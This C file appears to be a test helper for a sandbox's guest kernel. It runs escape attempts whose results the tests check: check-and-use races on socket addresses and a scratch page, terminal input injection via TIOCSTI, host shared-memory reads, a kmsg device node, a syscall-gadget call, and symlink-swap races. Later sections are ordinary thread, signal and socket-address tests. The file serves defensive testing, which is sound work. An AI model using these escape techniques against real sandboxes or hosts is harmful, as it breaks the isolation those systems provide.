/* Attacks on the guest kernel, compiled statically by tests/escape.rs and run inside a guest
 * root. Each prints one line the test checks. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <net/if.h>
#include <arpa/inet.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static volatile int stop;
static const char *outside;
static long iterations;

/* --- flip: another thread changes the socket address in guest memory between check and use.
 * The connects do not block: once the bait's backlog is full they fail with EAGAIN. */
static struct sockaddr_un flip_addr;
static void *flipper(void *arg) {
    (void)arg;
    struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons(1), .sin_addr.s_addr = htonl(0x7f000001)};
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    strncpy(un.sun_path, outside, sizeof un.sun_path - 1);
    while (!stop) {
        memcpy(&flip_addr, &inet, sizeof inet);
        __atomic_thread_fence(__ATOMIC_SEQ_CST);
        memcpy(&flip_addr, &un, sizeof un);
        __atomic_thread_fence(__ATOMIC_SEQ_CST);
    }
    return NULL;
}

static int flip(void) {
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    long escaped = 0;
    for (long i = 0; i < iterations; i++) {
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(s, (struct sockaddr *)&flip_addr, sizeof flip_addr) == 0) escaped++;
        close(s);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("flip escaped=%ld of %ld\n", escaped, iterations);
    return 0;
}

/* --- scratch: find the guest kernel's scratch page (the host path of data/a it wrote for an
 * open) and overwrite it with the host path of data/b while another thread opens data/a: an
 * open that reads "b" used a path the guest changed after the guest kernel's check. */
static char *target_page;
static char swapped_path[4096];
static int copy_in[2];
static void *overwriter(void *arg) {
    (void)arg;
    size_t n = strlen(swapped_path) + 1;
    long writable = 0;
    while (!stop) {
        /* write() then read() into the page: EFAULT instead of a crash when it is read-only. */
        if (write(copy_in[1], swapped_path, n) != (ssize_t)n) break;
        if (read(copy_in[0], target_page, n) == (ssize_t)n) writable++;
        else { char junk[4096]; if (read(copy_in[0], junk, n) < 0) break; }
    }
    return (void *)writable;
}

/* Whether [at, at+len) is readable: write() it into a pipe (EFAULT if not). */
static int readable(const void *at, size_t len, char *out) {
    int p[2];
    if (pipe(p)) return 0;
    int ok = write(p[1], at, len) == (ssize_t)len && read(p[0], out, len) == (ssize_t)len;
    close(p[0]);
    close(p[1]);
    return ok;
}

static int scratch(void) {
    close(open("/data/a", O_RDONLY));
    /* The guest kernel maps its scratch with mmap(NULL): just above our next mapping. */
    char *probe = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    char *found = NULL;
    static char buf[4096];
    for (int i = 1; i < 4096 && !found; i++) {
        char *page = probe + 4096L * i;
        if (!readable(page, sizeof buf, buf)) continue;
        buf[sizeof buf - 1] = 0;
        size_t n = strlen(buf);
        if (buf[0] == '/' && n > 7 && !strcmp(buf + n - 7, "/data/a") && strcmp(buf, "/data/a") != 0) found = page;
    }
    if (!found) {
        printf("scratch found=0 writable=0 escaped=0\n");
        return 0;
    }
    strcpy(swapped_path, buf);
    swapped_path[strlen(swapped_path) - 1] = 'b';
    target_page = found;
    if (pipe(copy_in)) return 1;
    int mp = mprotect(found, 4096, PROT_READ | PROT_WRITE);
    int mu = munmap(found, 4096);
    void *mf = mmap(found, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    pthread_t t;
    pthread_create(&t, NULL, overwriter, NULL);
    long escaped = 0;
    for (long i = 0; i < iterations; i++) {
        int fd = open("/data/a", O_RDONLY);
        char c = 0;
        if (fd >= 0 && read(fd, &c, 1) == 1 && c == 'b') escaped++;
        if (fd >= 0) close(fd);
    }
    stop = 1;
    void *w;
    pthread_join(t, &w);
    printf("scratch found=1 writable=%ld escaped=%ld mprotect=%d munmap=%d mmap-fixed=%d\n", (long)w, escaped,
           mp == 0, mu == 0, mf != MAP_FAILED);
    return 0;
}

/* --- wrongfile: two threads open their own file at once; each must read its own. */
static long mismatches[2];
static void *opener(void *arg) {
    long me = (long)arg;
    const char *path = me ? "/data/b" : "/data/a";
    char want = me ? 'b' : 'a';
    for (long i = 0; i < iterations; i++) {
        int fd = open(path, O_RDONLY);
        char c = 0;
        if (fd < 0 || read(fd, &c, 1) != 1 || c != want) mismatches[me]++;
        if (fd >= 0) close(fd);
    }
    return NULL;
}

static int wrongfile(void) {
    /* A path call first: the threads start with whatever scratch their parent has. */
    close(open("/data/a", O_RDONLY));
    pthread_t t[2];
    for (long i = 0; i < 2; i++) pthread_create(&t[i], NULL, opener, (void *)i);
    for (int i = 0; i < 2; i++) pthread_join(t[i], NULL);
    printf("wrongfile mismatches=%ld of %ld\n", mismatches[0] + mismatches[1], 2 * iterations);
    return 0;
}

/* --- tty: push input into the terminal on descriptor 0. */
static int tty(void) {
    const char *cmd = "echo INJECTED\n";
    int pushed = 0, err = 0;
    for (const char *p = cmd; *p; p++) {
        if (ioctl(0, TIOCSTI, p) == 0) pushed++;
        else err = errno;
    }
    /* The same request with high bits set: the host reads a 32-bit command. */
    unsigned long wide = 0xffffffff00000000UL | TIOCSTI;
    if (syscall(SYS_ioctl, 0, wide, "Z") == 0) pushed++;
    int disc = 0;
    int setd = ioctl(0, TIOCSETD, &disc);
    int setd_err = setd ? errno : 0;
    printf("tiocsti pushed=%d errno=%d tiocsetd=%d errno=%d\n", pushed, err, setd, setd_err);
    return 0;
}

/* --- shm: read the host's SysV segment with key argv[2]. */
static int shm(const char *key) {
    int id = shmget((key_t)strtol(key, NULL, 0), 0, 0);
    if (id < 0) {
        printf("shm refused %d\n", errno);
        return 0;
    }
    char *p = shmat(id, NULL, SHM_RDONLY);
    if (p == (void *)-1) {
        printf("shm refused %d\n", errno);
        return 0;
    }
    printf("shm ESCAPED %.32s\n", p);
    return 0;
}

/* --- mknod: a device node for the host's kernel log. */
static int mknod_kmsg(const char *path) {
    if (mknod(path, S_IFCHR | 0600, makedev(1, 11)) != 0) {
        printf("mknod refused %d\n", errno);
        return 0;
    }
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    char buf[64];
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    unlink(path);
    printf("mknod ESCAPED read=%zd\n", n);
    return 0;
}

/* --- channel: register an empty file as the sigsys stub's channel, through a `syscall` in the
 * stub's own code page ("syscall; mov [r13 + 0x90], rax; ret", so that it comes back here). */
static int channel(void) {
    const unsigned char pattern[] = {0x0f, 0x05, 0x49, 0x89, 0x85, 0x90, 0x00, 0x00, 0x00, 0xc3};
    unsigned char *base = (unsigned char *)0x3e5a00000000UL;
    static unsigned char code[4096];
    if (!readable(base, sizeof code, (char *)code)) {
        printf("channel absent\n");
        return 0;
    }
    long at = -1;
    for (long i = 0; i + (long)sizeof pattern <= (long)sizeof code && at < 0; i++)
        if (!memcmp(code + i, pattern, sizeof pattern)) at = i;
    if (at < 0) {
        printf("channel absent\n");
        return 0;
    }
    int fd = memfd_create("empty", 0);
    static long frame[32];
    long ret;
    register long r13 __asm__("r13") = (long)frame;
    register long rdi __asm__("rdi") = 0x766d6c62;
    register long rsi __asm__("rsi") = fd;
    register long rdx __asm__("rdx") = 0;
    register long r10 __asm__("r10") = 0;
    __asm__ volatile("call *%[t]"
                     : "=a"(ret), "+r"(rdi), "+r"(rsi), "+r"(rdx), "+r"(r10)
                     : [t] "r"(base + at), "a"(157L), "r"(r13)
                     : "rcx", "r11", "r8", "r9", "memory");
    printf("channel registered=%ld\n", ret);
    long pid = 0;
    for (int i = 0; i < 100; i++) pid = syscall(SYS_getpid);
    uid_t u = getuid();
    printf("channel alive pid=%ld uid=%d\n", pid, (int)u);
    return 0;
}

/* --- swap: a directory on the way to a socket is exchanged with a symbolic link out of the
 * root while another thread connects to (and sends datagrams to) the socket beneath it:
 * data/d/sock and data/d/dgram, with data/l the link. Relative paths, so that the same
 * program run natively from the root's directory shows the race can be won. */
static void *swapper(void *arg) {
    (void)arg;
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, "data/d", AT_FDCWD, "data/l", 2 /* RENAME_EXCHANGE */);
    return NULL;
}

static int swap(void) {
    struct sockaddr_un st = {.sun_family = AF_UNIX, .sun_path = "data/d/sock"};
    struct sockaddr_un dg = {.sun_family = AF_UNIX, .sun_path = "data/d/dgram"};
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    long connected = 0, sent = 0;
    int d = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    for (long i = 0; i < iterations; i++) {
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(s, (struct sockaddr *)&st, sizeof st) == 0) connected++;
        close(s);
        if (sendto(d, "x", 1, 0, (struct sockaddr *)&dg, sizeof dg) == 1) sent++;
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("swap connected=%ld sent=%ld of %ld\n", connected, sent, iterations);
    return 0;
}

/* --- netcfg: add (or remove) address 127.77.0.1 as interface alias lo:vmlab, a change to
 * the network configuration of whatever namespace the program runs in. */
static int netcfg(const char *what) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strcpy(ifr.ifr_name, "lo:vmlab");
    int r;
    if (!strcmp(what, "add")) {
        struct sockaddr_in *in = (struct sockaddr_in *)&ifr.ifr_addr;
        in->sin_family = AF_INET;
        in->sin_addr.s_addr = inet_addr("127.77.0.1");
        r = ioctl(s, SIOCSIFADDR, &ifr);
    } else {
        r = ioctl(s, SIOCGIFFLAGS, &ifr);
        ifr.ifr_flags &= ~IFF_UP;
        if (r == 0) r = ioctl(s, SIOCSIFFLAGS, &ifr);
    }
    printf("netcfg %s %s %d\n", what, r == 0 ? "done" : "refused", r == 0 ? 0 : errno);
    return 0;
}

/* --- int80: a call of the i386 ABI, number 20 (getpid there, writev on x86-64). */
static int int80(void) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L), "b"(0L), "c"(0L), "d"(0L) : "r8", "r9", "r10", "r11", "memory");
    printf("int80 ret=%ld\n", ret);
    return 0;
}

/* --- threadpid: getpid in a new thread before the process made any other trapped call. */
static long thread_pid;
static void *pid_of_thread(void *arg) {
    (void)arg;
    thread_pid = syscall(SYS_getpid);
    return NULL;
}

static int threadpid(void) {
    pthread_t t;
    pthread_create(&t, NULL, pid_of_thread, NULL);
    pthread_join(t, NULL);
    long main_pid = syscall(SYS_getpid);
    printf("threadpid same=%d positive=%d\n", thread_pid == main_pid, thread_pid > 0);
    return 0;
}

/* --- sockname: the addresses getsockname and getpeername return for a socket bound and
 * connected by path (argv[2]). */
static int sockname(const char *path) {
    struct sockaddr_un a = {.sun_family = AF_UNIX}, got;
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    unlink(path);
    int l = socket(AF_UNIX, SOCK_STREAM, 0), c = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(l, (struct sockaddr *)&a, sizeof a) || listen(l, 1) || connect(c, (struct sockaddr *)&a, sizeof a)) {
        printf("sockname failed %d\n", errno);
        return 0;
    }
    socklen_t n = sizeof got;
    memset(&got, 0, sizeof got);
    getsockname(l, (struct sockaddr *)&got, &n);
    printf("sockname %s %d", got.sun_path, (int)n);
    n = sizeof got;
    memset(&got, 0, sizeof got);
    getpeername(c, (struct sockaddr *)&got, &n);
    printf(" peername %s %d", got.sun_path, (int)n);
    n = 8; /* too small: truncated, the full length reported */
    memset(&got, 0, sizeof got);
    getsockname(l, (struct sockaddr *)&got, &n);
    printf(" short %.6s %d\n", got.sun_path, (int)n);
    unlink(path);
    return 0;
}

/* --- peeraddr: the peer addresses accept, recvfrom, recvmsg and recvmmsg return for sockets
 * bound by path in directory argv[2], a reply sent to the address recvfrom gave, and the
 * full length a too short buffer gets. */
static void bound(int fd, const char *dir, const char *name) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s/%s", dir, name);
    unlink(a.sun_path);
    if (bind(fd, (struct sockaddr *)&a, sizeof a)) printf("bind %s failed %d\n", a.sun_path, errno);
}
static void show(const char *what, struct sockaddr_un *a, socklen_t n) {
    printf("%s %s %d\n", what, n > 2 ? a->sun_path : "-", (int)n);
}
static int peeraddr(const char *dir) {
    struct sockaddr_un a, to;
    socklen_t n;
    int l = socket(AF_UNIX, SOCK_STREAM, 0), c = socket(AF_UNIX, SOCK_STREAM, 0);
    bound(l, dir, "srv.sock");
    bound(c, dir, "cli.sock");
    memset(&to, 0, sizeof to);
    to.sun_family = AF_UNIX;
    snprintf(to.sun_path, sizeof to.sun_path, "%s/srv.sock", dir);
    if (listen(l, 2) || connect(c, (struct sockaddr *)&to, sizeof to)) return printf("stream failed %d\n", errno), 0;
    memset(&a, 0, sizeof a), n = sizeof a;
    int s = accept(l, (struct sockaddr *)&a, &n);
    show("accept", &a, n);
    int c2 = socket(AF_UNIX, SOCK_STREAM, 0);
    connect(c2, (struct sockaddr *)&to, sizeof to);
    memset(&a, 0, sizeof a), n = sizeof a;
    int s2 = accept4(l, (struct sockaddr *)&a, &n, SOCK_CLOEXEC);
    show("accept4-unbound", &a, n);
    close(s), close(s2), close(c), close(c2), close(l);
    int d1 = socket(AF_UNIX, SOCK_DGRAM, 0), d2 = socket(AF_UNIX, SOCK_DGRAM, 0);
    bound(d1, dir, "d1.sock");
    bound(d2, dir, "d2.sock");
    snprintf(to.sun_path, sizeof to.sun_path, "%s/d2.sock", dir);
    for (int i = 0; i < 5; i++) sendto(d1, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
    char buf[16];
    memset(&a, 0, sizeof a), n = sizeof a;
    recvfrom(d2, buf, sizeof buf, 0, (struct sockaddr *)&a, &n);
    show("recvfrom", &a, n);
    /* Reply to whatever address recvfrom gave. */
    int sent = sendto(d2, "r", 1, 0, (struct sockaddr *)&a, n);
    printf("reply %s\n", sent == 1 && recv(d1, buf, sizeof buf, MSG_DONTWAIT) == 1 ? "arrived" : strerror(errno));
    struct iovec iov = {buf, sizeof buf};
    struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1};
    memset(&a, 0, sizeof a);
    recvmsg(d2, &m, 0);
    show("recvmsg", &a, m.msg_namelen);
    struct sockaddr_un b[2];
    struct iovec iovs[2] = {{buf, 8}, {buf + 8, 8}};
    struct mmsghdr mm[2];
    memset(mm, 0, sizeof mm), memset(b, 0, sizeof b);
    for (int i = 0; i < 2; i++) {
        mm[i].msg_hdr.msg_name = &b[i], mm[i].msg_hdr.msg_namelen = sizeof b[i];
        mm[i].msg_hdr.msg_iov = &iovs[i], mm[i].msg_hdr.msg_iovlen = 1;
    }
    int got = recvmmsg(d2, mm, 2, 0, NULL);
    for (int i = 0; i < got; i++) show("recvmmsg", &b[i], mm[i].msg_hdr.msg_namelen);
    memset(&a, 0, sizeof a), n = 8; /* too short: the full length is reported */
    recvfrom(d2, buf, sizeof buf, 0, (struct sockaddr *)&a, &n);
    printf("short %d\n", (int)n);
    for (const char *f = "srv.sock\0cli.sock\0d1.sock\0d2.sock\0"; *f; f += strlen(f) + 1) {
        snprintf(to.sun_path, sizeof to.sun_path, "%s/%s", dir, f);
        unlink(to.sun_path);
    }
    return 0;
}

/* --- sipid: the sender's pid in the siginfo of a signal from a child (a handler, sigqueue,
 * SIGCHLD, sigwaitinfo, sigtimedwait) and from the process itself, against the pid fork
 * returned and getpid. */
static volatile pid_t usr1_from, chld_from;
static volatile int usr1_code;
static void on_usr1(int sig, siginfo_t *si, void *ctx) {
    (void)sig, (void)ctx;
    usr1_from = si->si_pid, usr1_code = si->si_code;
}
static void on_chld(int sig, siginfo_t *si, void *ctx) {
    (void)sig, (void)ctx;
    chld_from = si->si_pid;
}
static pid_t child_sending(int sig, int queue) {
    pid_t parent = getpid(), c = fork();
    if (c == 0) {
        if (queue) {
            union sigval v = {.sival_int = 7};
            sigqueue(parent, sig, v);
        } else {
            kill(parent, sig);
        }
        _exit(0);
    }
    return c;
}
static int sipid(void) {
    struct sigaction sa = {.sa_sigaction = on_usr1, .sa_flags = SA_SIGINFO | SA_RESTART};
    sigaction(SIGUSR1, &sa, NULL);
    sa.sa_sigaction = on_chld;
    sigaction(SIGCHLD, &sa, NULL);
    sigset_t usr2, none;
    sigemptyset(&usr2), sigemptyset(&none);
    sigaddset(&usr2, SIGUSR2);
    sigaddset(&usr2, SIGUSR1);
    sigaddset(&usr2, SIGCHLD);
    sigprocmask(SIG_BLOCK, &usr2, NULL);
    pid_t c = child_sending(SIGUSR1, 0);
    while (!usr1_from || !chld_from) sigsuspend(&none);
    printf("sipid kill=%d chld=%d", usr1_from == c && usr1_code == SI_USER, chld_from == c);
    waitpid(c, NULL, 0);
    usr1_from = chld_from = 0;
    c = child_sending(SIGUSR1, 1);
    while (!usr1_from || !chld_from) sigsuspend(&none);
    printf(" queue=%d", usr1_from == c && usr1_code == SI_QUEUE);
    waitpid(c, NULL, 0);
    siginfo_t si;
    c = child_sending(SIGUSR2, 0);
    memset(&si, 0, sizeof si);
    sigwaitinfo(&usr2, &si);
    while (si.si_signo != SIGUSR2) sigwaitinfo(&usr2, &si); /* SIGCHLD may come first */
    printf(" wait=%d", si.si_pid == c);
    waitpid(c, NULL, 0);
    c = child_sending(SIGUSR2, 0);
    struct timespec ts = {5, 0};
    memset(&si, 0, sizeof si);
    while (si.si_signo != SIGUSR2) sigtimedwait(&usr2, &si, &ts);
    printf(" timedwait=%d", si.si_pid == c);
    waitpid(c, NULL, 0);
    usr1_from = 0;
    sigprocmask(SIG_UNBLOCK, &usr2, NULL);
    raise(SIGUSR1);
    printf(" self=%d\n", usr1_from == getpid() && usr1_code == SI_TKILL);
    return 0;
}

/* --- tids: every call that names a thread, with the ids the program sees (gettid) and the
 * ids the C library keeps (clone's CLONE_PARENT_SETTID/CHILD_SETTID, set_tid_address). One
 * line of name=0/1 results: the same natively and in a guest whose ids are one space. */
#include <sched.h>
static volatile pid_t tid_seen, tid_target, tid_handler;
static volatile int tid_value;
static void tid_on_signal(int sig, siginfo_t *si, void *uc) {
    (void)sig, (void)uc;
    tid_handler = (pid_t)syscall(SYS_gettid);
    if (si->si_code == SI_QUEUE) tid_value = si->si_value.sival_int;
}
static volatile int tid_stop;
static void *tid_thread(void *arg) {
    (void)arg;
    tid_target = (pid_t)syscall(SYS_gettid);
    while (!tid_stop) usleep(1000);
    return NULL;
}
static int tid_child(void *arg) {
    (void)arg;
    tid_seen = (pid_t)syscall(SYS_gettid);
    return 0;
}
static pthread_mutex_t tid_pi;
static volatile int tid_pi_result = -1;
static void *tid_pi_locker(void *arg) {
    (void)arg;
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    ts.tv_sec += 3;
    tid_pi_result = pthread_mutex_timedlock(&tid_pi, &ts);
    if (tid_pi_result == 0) pthread_mutex_unlock(&tid_pi);
    return NULL;
}
static int wait_for(volatile pid_t *v) {
    for (int i = 0; i < 3000 && !*v; i++) usleep(1000);
    return *v != 0;
}
static int tids(void) {
    pid_t me = (pid_t)syscall(SYS_gettid);
    printf("tids gettid-main=%d", me == getpid());
    pid_t ctid_slot = 0;
    printf(" set_tid_address=%d", (pid_t)syscall(SYS_set_tid_address, &ctid_slot) == me);
    /* clone with CLONE_PARENT_SETTID and CLONE_CHILD_SETTID: both slots hold the child's id
     * as it sees it, and as clone returned it. */
    static char stack[65536];
    pid_t ptid = 0, ctid = 0;
    pid_t c = clone(tid_child, stack + sizeof stack, CLONE_VM | CLONE_PARENT_SETTID | CLONE_CHILD_SETTID | SIGCHLD,
                    NULL, &ptid, NULL, &ctid);
    waitpid(c, NULL, 0);
    printf(" parent_settid=%d child_settid=%d", c > 0 && ptid == c && ptid == tid_seen, ctid == tid_seen);
    struct sigaction sa = {.sa_sigaction = tid_on_signal, .sa_flags = SA_SIGINFO};
    sigaction(SIGUSR1, &sa, NULL);
    pthread_t t;
    pthread_create(&t, NULL, tid_thread, NULL);
    wait_for(&tid_target);
    pid_t target = tid_target;
    tid_handler = 0;
    int r = (int)syscall(SYS_tgkill, getpid(), target, SIGUSR1);
    printf(" tgkill=%d", r == 0 && wait_for(&tid_handler) && tid_handler == target);
    tid_handler = 0;
    r = (int)syscall(SYS_tkill, target, SIGUSR1);
    printf(" tkill=%d", r == 0 && wait_for(&tid_handler) && tid_handler == target);
    tid_handler = 0;
    r = pthread_kill(t, SIGUSR1);
    printf(" pthread_kill=%d", r == 0 && wait_for(&tid_handler) && tid_handler == target);
    tid_handler = 0;
    r = pthread_sigqueue(t, SIGUSR1, (union sigval){.sival_int = 77});
    printf(" pthread_sigqueue=%d", r == 0 && wait_for(&tid_handler) && tid_handler == target && tid_value == 77);
    cpu_set_t set;
    CPU_ZERO(&set);
    r = sched_getaffinity(target, sizeof set, &set);
    int r2 = sched_setaffinity(target, sizeof set, &set);
    printf(" affinity_tid=%d", r == 0 && r2 == 0);
    r = pthread_getaffinity_np(t, sizeof set, &set);
    r2 = pthread_setaffinity_np(t, sizeof set, &set);
    printf(" affinity_pthread=%d", r == 0 && r2 == 0);
    struct sched_param sp = {.sched_priority = 0};
    r = sched_setscheduler(target, SCHED_OTHER, &sp);
    printf(" setscheduler_tid=%d getscheduler_tid=%d", r == 0, sched_getscheduler(target) == SCHED_OTHER);
    int policy = -1;
    r = pthread_getschedparam(t, &policy, &sp);
    r2 = pthread_setschedparam(t, SCHED_OTHER, &sp);
    printf(" schedparam_pthread=%d", r == 0 && r2 == 0 && policy == SCHED_OTHER);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/task/%d", target);
    printf(" proc_task=%d", access(path, F_OK) == 0);
    /* A priority-inheritance mutex the main thread holds while another thread waits for it:
     * the kernel finds the owner by the tid the C library wrote into the lock. */
    pthread_mutexattr_t ma;
    pthread_mutexattr_init(&ma);
    pthread_mutexattr_setprotocol(&ma, PTHREAD_PRIO_INHERIT);
    pthread_mutex_init(&tid_pi, &ma);
    pthread_mutex_lock(&tid_pi);
    pthread_t locker;
    pthread_create(&locker, NULL, tid_pi_locker, NULL);
    usleep(100000);
    int unlocked = pthread_mutex_unlock(&tid_pi);
    pthread_join(locker, NULL);
    printf(" pi_mutex_main=%d", unlocked == 0 && tid_pi_result == 0);
    /* A robust mutex in shared memory whose owner, a child's main thread, dies holding it:
     * the kernel marks it by the tid in the lock, and the next locker gets EOWNERDEAD. */
    pthread_mutex_t *rm = mmap(NULL, sizeof *rm, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pthread_mutexattr_t ra;
    pthread_mutexattr_init(&ra);
    pthread_mutexattr_setpshared(&ra, PTHREAD_PROCESS_SHARED);
    pthread_mutexattr_setrobust(&ra, PTHREAD_MUTEX_ROBUST);
    pthread_mutex_init(rm, &ra);
    pid_t owner = fork();
    if (owner == 0) {
        pthread_mutex_lock(rm);
        _exit(0);
    }
    waitpid(owner, NULL, 0);
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    ts.tv_sec += 3;
    printf(" robust_main=%d\n", pthread_mutex_timedlock(rm, &ts) == EOWNERDEAD);
    tid_stop = 1;
    pthread_join(t, NULL);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 2;
    const char *mode = argv[1];
    if (argc > 2) outside = argv[2];
    iterations = argc > 3 ? atol(argv[3]) : 20000;
    if (!strcmp(mode, "flip")) return flip();
    if (!strcmp(mode, "scratch")) return scratch();
    if (!strcmp(mode, "wrongfile")) return iterations = atol(argv[2]), wrongfile();
    if (!strcmp(mode, "tty")) return tty();
    if (!strcmp(mode, "shm")) return shm(argv[2]);
    if (!strcmp(mode, "mknod")) return mknod_kmsg(argv[2]);
    if (!strcmp(mode, "channel")) return channel();
    if (!strcmp(mode, "int80")) return int80();
    if (!strcmp(mode, "threadpid")) return threadpid();
    if (!strcmp(mode, "sockname")) return sockname(argv[2]);
    if (!strcmp(mode, "peeraddr")) return peeraddr(argv[2]);
    if (!strcmp(mode, "sipid")) return sipid();
    if (!strcmp(mode, "tids")) return tids();
    if (!strcmp(mode, "netcfg")) return netcfg(argv[2]);
    if (!strcmp(mode, "swap")) return iterations = atol(argv[2]), swap();
    return 2;
}
